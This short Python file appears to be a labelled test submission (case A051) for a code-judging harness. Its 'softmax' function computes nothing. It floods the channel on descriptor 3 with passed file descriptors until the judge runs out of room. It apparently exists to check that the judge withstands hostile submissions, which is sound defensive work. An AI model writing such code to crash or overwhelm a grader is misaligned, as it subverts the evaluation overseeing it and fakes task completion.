# A051 wrong_answer|crashed: sends descriptors over the channel until the judge has no room
import array
import socket


def softmax(x, dim=-1):
    channel = socket.socket(fileno=3)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 200))]
    for _ in range(100):
        channel.sendmsg([b"R"], rights)
